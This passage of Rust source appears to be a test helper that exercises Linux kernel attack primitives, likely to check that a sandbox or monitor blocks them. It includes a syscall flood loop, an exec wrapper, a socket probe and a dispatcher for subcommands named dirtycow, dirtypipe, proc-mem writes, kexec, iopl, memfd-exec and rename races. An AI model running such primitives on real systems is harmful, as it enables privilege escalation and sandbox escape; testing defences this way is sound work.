        fail("unshare(CLONE_NEWUSER|CLONE_NEWNS)");
    }
    let ns = std::fs::File::open("/proc/self/ns/mnt").unwrap_or_else(|_| fail("open ns"));
    let mut n: u64 = 0;
    while Instant::now() < end {
        for _ in 0..256 {
            // SAFETY: plain syscalls on a valid string and a descriptor we own; an fd that
            // opened after all is closed.
            unsafe {
                if what == "open" {
                    let fd = libc::open(c.as_ptr(), libc::O_RDONLY);
                    if fd >= 0 {
                        libc::close(fd);
                    }
                } else if what == "ns-own" || what == "userns" {
                    // Rejoining the mount namespace it is in: succeeds with CAP_SYS_ADMIN
                    // (over the namespace's user namespace), changes nothing.
                    libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNS);
                } else {
                    libc::setns(ns.as_raw_fd(), libc::CLONE_NEWNS);
                    libc::unshare(libc::CLONE_NEWNS);
                }
            }
            n += 1;
        }
    }
    println!("flood {what}: {n} rounds");
}

fn exec(cmd: &str) -> ! {
    let c = CString::new(cmd).unwrap_or_else(|_| fail("command"));
    let argv = [c.as_ptr(), std::ptr::null()];
    // SAFETY: a NUL-terminated argv of one C string and NULL.
    unsafe { libc::execv(c.as_ptr(), argv.as_ptr()) };
    fail("exec")
}

/// socket(FAMILY, TYPE, 0) with numbers: a family no module registered makes the kernel ask
/// modprobe for `net-pf-FAMILY` before it fails (EAFNOSUPPORT). Prints the result.
fn socket(family: &str, kind: &str) {
    let family: i32 = family.parse().unwrap_or_else(|_| fail("family"));
    let kind: i32 = kind.parse().unwrap_or_else(|_| fail("type"));
    // SAFETY: plain syscall; the descriptor, if any, is closed.
    let fd = unsafe { libc::socket(family, kind, 0) };
    if fd < 0 {
        println!(
            "socket({family}, {kind}): {}",
            std::io::Error::last_os_error()
        );
        return;
    }
    // SAFETY: our own descriptor.
    unsafe { libc::close(fd) };
    println!("socket({family}, {kind}): fd {fd}");
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let arg = |i: usize| {
        args.get(i)
            .cloned()
            .unwrap_or_else(|| fail("missing argument"))
    };
    match args.get(1).map(String::as_str) {
        Some("dirtycow") => dirtycow(&arg(2)),
        Some("dirtypipe") => dirtypipe(&arg(2)),
        Some("dirtycow-ptrace") => dirtycow_ptrace(&arg(2)),
        Some("procmem") => write_child(false),
        Some("procmem-dup-pwritev") => procmem_dup_pwritev(),
        Some("procmem-inherited") => procmem_inherited(),
        Some("dirtypipe-via") => dirtypipe_via(&arg(2), &arg(3)),
        #[cfg(target_arch = "x86_64")]
        Some("dirtycow-via") => dirtycow_via(&arg(2), &arg(3)),
        Some("benign-writes") => benign_writes(),
        Some("pvwritev") => write_child(true),
        Some("ptrace") => ptrace_attach(arg(2).parse().unwrap_or_else(|_| fail("pid"))),
        Some("bpf") => bpf_load(),
        Some("open-by-handle") => open_by_handle(),
        Some("userfaultfd") => userfaultfd(),
        Some("connect") => connect(&arg(2)),
        Some("tcp-connect") => netapi::tcp_connect(&arg(2), &arg(3)),
        Some("tcp-own") => netapi::tcp_own(&arg(2)),
        Some("tcp-uring-connect") => netfx::tcp_uring_connect(&arg(2), &arg(3)),
        Some("tcp-fastopen") => netfx::tcp_fastopen(&arg(2), &arg(3)),
        Some("tcp-own-via") => netfx::tcp_own_via(&arg(2), &arg(3)),
        Some("abstract-connect") => netapi::abstract_connect(&arg(2)),
        Some("abstract-own") => netapi::abstract_own(&arg(2)),
        Some("unix-connect") => netapi::unix_connect(&arg(2)),
        Some("finit-module") => finit_module(),
        #[cfg(target_arch = "x86_64")]
        Some("setns32") => setns32(&arg(2), &arg(3)),
        Some("setns") => setns64(&arg(2), &arg(3)),
        Some("iouring-open") => iouring_open(&arg(2), &arg(3)),
        Some("iouring-dirtypipe") => iouring::dirtypipe(&arg(2)),
        Some("iouring-procmem") => iouring::procmem(),
        Some("iouring-dirtycow") => iouring::dirtycow(&arg(2)),
        Some("iouring-benign") => iouring::benign(),
        Some("iouring-connect") => iouring::connect(&arg(2)),
        Some("fsmount-read") => fsmount_read(&arg(2), &arg(3), &arg(4)),
        #[cfg(target_arch = "x86_64")]
        Some("int80") => int80(&arg(2), &args[3..]),
        Some("fchdir") => fchdir_exec(&arg(2), &arg(3)),
        Some("memfd-exec") => drift::memfd_exec(&arg(2)),
        Some("deleted-exec") => drift::deleted_exec(&arg(2)),
        Some("drift-child") => drift::child(),
        Some("exchange-loop") => races::exchange_loop(&arg(2), &arg(3)),
        Some("iouring-exchange-loop") => races::iouring_exchange_loop(&arg(2), &arg(3)),
        Some("exchange-few") => races::exchange_few(&arg(2), &arg(3)),
        Some("rotate") => races::rotate(&arg(2), &arg(3)),
        Some("iopl") => lockdown::iopl(&arg(2)),
        Some("ioperm") => lockdown::ioperm(&arg(2), &arg(3)),
        Some("kexec-load") => lockdown::kexec_load(),
        Some("kexec-file-load") => lockdown::kexec_file_load(),
        Some("open") => lockdown::open(&arg(2), &arg(3)),
        Some("socket") => socket(&arg(2), &arg(3)),
        Some("flood") => flood(
            &arg(2),
            &arg(3),
            arg(4).parse().unwrap_or_else(|_| fail("seconds")),
        ),
        _ => {
            eprintln!(
                "usage: primitives <dirtycow FILE|dirtycow-via int80|clonevm FILE|dirtycow-ptrace FILE|dirtypipe FILE|dirtypipe-via writev|fork|reopen|tee|splice|int80 FILE|procmem|procmem-dup-pwritev|procmem-inherited|benign-writes|pvwritev|ptrace PID|bpf|open-by-handle|userfaultfd|connect PATH|finit-module|setns32 NSFILE CMD|setns NSFILE CMD|int80 NR [ARG|s:STRING]...|iouring-open PATH r|w|fsmount-read DEV FSTYPE FILE|fchdir FD CMD|flood open|ns|ns-own|userns PATH SECS|iouring-dirtypipe FILE|iouring-procmem|iouring-dirtycow FILE|iouring-benign|iouring-connect PATH|memfd-exec execveat|fexecve|deleted-exec PATH|drift-child|iopl LEVEL|ioperm FROM NUM|kexec-load|kexec-file-load|open PATH r|rw|tcp-uring-connect ADDR PORT|tcp-fastopen ADDR PORT|tcp-own-via uring|fastopen PORT|socket FAMILY TYPE>"
            );
            exit(2);
        }
    }
}
